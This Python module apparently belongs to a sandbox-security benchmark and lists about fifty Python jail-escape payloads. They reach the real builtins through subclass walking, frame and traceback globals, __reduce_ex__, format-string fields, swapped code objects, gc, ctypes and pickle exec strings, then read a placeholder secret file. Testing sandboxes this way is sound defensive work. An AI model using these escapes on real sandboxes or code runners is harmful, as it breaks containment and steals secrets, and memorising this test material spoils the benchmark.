"""Out of the language: each a different way to the real builtins, then the secret file."""

from __future__ import annotations

from cap.bench._escapes._escape import Escape, escapes

# Whatever a way leads to: a module, its names, or the builtins themselves.
_PRELUDE = """\
def leak(found):
    names = found if isinstance(found, dict) else found.__dict__
    if '__builtins__' in names: names = names['__builtins__']
    names = names if isinstance(names, dict) else names.__dict__
    print(names['open']('@SECRET@').read())
def subclasses(): return ().__class__.__base__.__subclasses__()
"""

_WAYS = {
    "subclasses to os._wrap_close": (
        "leak([c for c in subclasses() if c.__name__ == '_wrap_close'][0].__init__.__globals__)"
    ),
    "subclasses to warnings": (
        "leak([c for c in subclasses() if c.__name__ == 'catch_warnings'][0].__init__.__globals__)"
    ),
    "any subclass with globals": """
for c in subclasses():
    try:
        names = c.__init__.__globals__
    except AttributeError:
        continue
    leak(names)
    break
""",
    "subclasses to a loader": """
loader = [c for c in subclasses() if c.__name__ == 'BuiltinImporter'][0]
leak(loader.load_module('builtins'))
""",
    "mro of a type": "leak([c for c in int.__mro__[-1].__subclasses__() "
    "if c.__name__ == '_wrap_close'][0].__init__.__globals__)",
    "type.__subclasses__": "leak([c for c in type.__subclasses__(object) "
    "if c.__name__ == '_wrap_close'][0].__init__.__globals__)",
    "reduce_ex to copyreg": "leak(().__reduce_ex__(2)[0].__globals__)",
    "reduce_ex of an instance": """
class Thing: pass
leak(Thing().__reduce_ex__(1)[0].__globals__)
""",
    "globals of a proxy": "leak(say.__globals__)",
    "closure of a proxy": """
for cell in say.__closure__:
    if type(cell.cell_contents).__name__ == 'Worker':
        leak(type(cell.cell_contents).call.__globals__)
""",
    "the partial behind print": "leak(print.func.__globals__)",
    "what print writes to": "leak(print.args[0].__func__.__globals__)",
    "the import guard's real import": (
        "leak(__builtins__['__import__'].__globals__['_REAL_IMPORT']('builtins'))"
    ),
    "the import guard's globals": "leak(__builtins__['__import__'].__globals__)",
    "the seeded generator": "leak(np.random.default_rng.func.__globals__)",
    "a generator's frame": """
def walk():
    yield running.gi_frame.f_back
running = walk()
frame = next(running)
while frame.f_back is not None: frame = frame.f_back
leak(frame.f_globals)
""",
    "a traceback's frame": """
try:
    1 / 0
except ZeroDivisionError as error:
    frame = error.__traceback__.tb_frame
while frame.f_globals.get('__name__') == 'program': frame = frame.f_back
leak(frame.f_globals)
""",
    "a coroutine's frame": """
async def look(): return 1
waiting = look()
names = waiting.cr_frame.f_builtins
leak(names['__import__'].__globals__)
""",
    "an asynchronous generator's frame": """
async def look(): yield 1
leak(look().ag_frame.f_builtins['__import__'].__globals__)
""",
    "the frame of a sort key": """
frames = []
def key(item):
    try:
        raise ValueError
    except ValueError as error:
        frames.append(error.__traceback__.tb_frame)
    return item
sorted([2, 1], key=key)
frame = frames[0]
while frame.f_back is not None: frame = frame.f_back
leak(frame.f_globals)
""",
    "the frame in an exception's context": """
try:
    try:
        say(object())
    except Exception as inner:
        raise KeyError from inner
except KeyError as error:
    step = error.__cause__.__traceback__
    while step.tb_next is not None: step = step.tb_next
    leak(step.tb_frame.f_globals)
""",
    "attrgetter": "import operator\nleak(operator.attrgetter('__globals__')(say))",
    "methodcaller": """
import operator
classes = operator.methodcaller('__subclasses__')(object)
leak([c for c in classes if c.__name__ == '_wrap_close'][0].__init__.__globals__)
""",
    "string.Formatter fields": """
import string
leak(string.Formatter().get_field('0.__globals__', [say], {})[0])
""",
    "format of a global": """
text = '{0.__globals__[os].environ}'.format(say)
leak(say.__globals__['os'])
""",
    "random has os": "leak(random._os)",
    "random's urandom module": "leak(random._inst.__class__.seed.__globals__)",
    "statistics has sys": "import statistics\nleak(statistics.sys.modules['builtins'])",
    "typing has sys": "import typing\nleak(typing.sys.modules['builtins'])",
    "collections has sys": "import collections\nleak(collections._sys.modules['builtins'])",
    "re has copyreg": "import re\nleak(re.copyreg)",
    "re has enum, enum has sys": "import re\nleak(re.enum.sys.modules['builtins'])",
    "functools' builtins": "import functools\nleak(functools)",
    "numpy's own globals": "leak(np)",
    "a numpy function's globals": "leak(np.linalg.norm.__wrapped__.__globals__)",
    "numpy has os": "leak(np.lib._utils_impl.sys.modules['os'])",
    "numpy's ctypeslib": "leak(np.ctypeslib)",
    "an array's ctypes": "leak(type(np.zeros(1).ctypes).data_as.__globals__)",
    "numpy.testing": "leak(np.testing.assert_equal.__globals__)",
    "numpy.f2py": "leak(np.f2py.compile.__globals__)",
    "shapely's globals": "leak(shapely)",
    "shapely's affinity": "leak(affinity)",
    "a forward reference is evaluated": """
import typing
found = typing.ForwardRef("__import__('builtins')")._evaluate({}, {}, recursive_guard=frozenset())
leak(found)
""",
    "type hints are evaluated": """
import typing
def f(x: "().__class__.__base__.__subclasses__()"): pass
classes = []
class Hook(type):
    def __call__(cls, *a): return 1
leak(typing.get_type_hints.__globals__)
""",
    "a function of another's globals": """
maker = (lambda: 0).__class__
def body(): return open('@SECRET@').read()
print(maker(body.__code__, {'__builtins__': say.__globals__['__builtins__']})())
""",
    "changed constants of a code object": """
def body(): return say.x.y
code = body.__code__.replace(co_names=('say', '__globals__', 'keys'))
maker = (lambda: 0).__class__
code = (lambda: say.a).__code__.replace(co_names=('say', '__globals__'))
leak(maker(code, {'say': say})())
""",
    "swapped code of a library": """
import statistics
def mean(data): return open('@SECRET@').read()
statistics.mean.__code__ = mean.__code__
print(statistics.mean(0))
""",
    "a key function in a library's frame": """
import functools
def read():
    frame = None
    try: raise ValueError
    except ValueError as e: frame = e.__traceback__.tb_frame
    while frame.f_globals.get('__name__') == 'program': frame = frame.f_back
    return frame
leak(functools.lru_cache(maxsize=None)(read)().f_globals)
""",
    "builtins put back by hand": """
back = ().__reduce_ex__(2)[0].__globals__['__builtins__']
__builtins__.update(back)
import os
print(open('@SECRET@').read())
""",
    "a class's hidden module": "leak([c for c in subclasses() if c.__name__ == 'Quitter'][0]"
    ".__init__.__globals__)",
    "pickle through numpy.load": """
class File:
    def __init__(self, data): self.data, self.at = data, 0
    def read(self, n=-1):
        n = len(self.data) - self.at if n is None or n < 0 else n
        piece = self.data[self.at:self.at + n]
        self.at += len(piece)
        return piece
    def readline(self): return self.read(self.data.index(b'\\n', self.at) + 1 - self.at)
    def readinto(self, buffer):
        piece = self.read(len(buffer))
        buffer[:len(piece)] = piece
        return len(piece)
    def seek(self, at, whence=0): self.at = self.at + at if whence == 1 else at
    def tell(self): return self.at
code = b"cbuiltins\\nexec\\n(S'open(\\"@DIR@/pickled\\", \\"w\\").write(\\"x\\")'\\ntR."
np.load(File(code), allow_pickle=True)
""",
    "pickle through numpy's unpickler": """
import operator
pickle = np.lib._npyio_impl.pickle
pickle.loads(b"cbuiltins\\nexec\\n(S'open(\\"@DIR@/pickled\\", \\"w\\").write(\\"x\\")'\\ntR.")
""",
    "codecs by name": """
codecs = ().__reduce_ex__(2)[0].__globals__['__builtins__']['__import__']('codecs')
print(codecs.open('@SECRET@').read())
""",
    "the object graph": """
gc = ().__reduce_ex__(2)[0].__globals__['__builtins__']['__import__']('gc')
for item in gc.get_objects():
    if type(item) is dict and 'open' in item and '__import__' in item and item is not __builtins__:
        leak(item)
        break
""",
    "an audit hook and a breakpoint": """
b = ().__reduce_ex__(2)[0].__globals__['__builtins__']
b['__import__']('sys').breakpointhook = lambda: b['open']('@SECRET@').read()
print(b['breakpoint']())
""",
    "memory of the interpreter": """
ctypes = ().__reduce_ex__(2)[0].__globals__['__builtins__']['__import__']('ctypes')
ctypes.pythonapi.PyRun_SimpleString(b"open('@DIR@/run', 'w').write('x')")
""",
}

JAIL: tuple[Escape, ...] = escapes("jail", _PRELUDE, _WAYS)
